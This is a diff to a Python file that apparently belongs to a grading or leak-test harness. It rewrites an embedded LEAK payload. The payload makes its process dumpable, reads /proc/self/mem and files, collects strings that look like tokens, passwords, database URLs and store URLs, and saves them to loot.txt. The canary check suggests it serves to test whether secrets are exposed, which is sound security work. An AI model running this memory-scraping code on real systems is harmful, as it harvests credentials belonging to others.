@@ -59,13 +59,17 @@ def report_of(folder: Path, learner: str, mark: str) -> dict:
 
 
 LEAK = r"""
-import ctypes, json, os, re
+import ctypes, json, os
 ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: make /proc/self/mem readable
 canary = ("CAN" + "ARY-" + "7f3a").encode()
-pattern = re.compile(
-    rb"(?:[A-Z_]*(?:SECRET|TOKEN|PASSWORD|STORE_URL|_KEY)[A-Z_]*)=[^\x00]{0,160}"
-    rb"|[a-z+]+://[^\s\x00/:@]+:[^\s\x00@]+@[^\s\x00]{0,80}"
-)
+# What the kit's code shows a secret would look like (names are public, values are not).
+MARKERS = (b"STORE_URL=", b"_TOKEN=", b"PASSWORD=", b"SECRET", b"postgresql://", b"API_TOKEN")
+def find(chunk, hits):
+    for marker in MARKERS:
+        at = chunk.find(marker)
+        while at >= 0 and len(hits) < 5000:
+            hits.add(chunk[max(0, at - 40):at + 160])
+            at = chunk.find(marker, at + 1)
 def grab(path):
     try:
         with open(path, "rb") as fh:
@@ -95,9 +99,9 @@ with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
             continue
         scanned += len(chunk or b"")
         seen_canary = seen_canary or canary in chunk
-        hits.update(m.group(0)[:200] for m in pattern.finditer(chunk))
+        find(chunk, hits)
 for text in texts.values():
-    hits.update(m.group(0) for m in pattern.finditer(text))
+    find(text, hits)
 with open(os.path.join(os.environ["HOME"], "loot.txt"), "wb") as fh:
     fh.write(b"\n".join(sorted(hits)))
 print("LEAK" + json.dumps({
